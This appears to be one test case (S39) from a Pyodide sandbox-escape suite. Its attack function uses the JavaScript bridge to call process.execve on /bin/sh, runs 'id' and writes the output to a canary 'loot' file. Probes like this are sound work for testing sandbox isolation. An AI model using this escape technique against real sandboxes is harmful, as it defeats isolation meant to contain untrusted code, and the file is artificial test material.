"""Becoming another program: process.execve.

id: S39
canary: file
"""

import js
from pyodide.ffi import to_js


def attack(target):
    arguments = to_js(["sh", "-c", f"id > {target.loot}; sleep 5"])
    js.process.execve("/bin/sh", arguments)
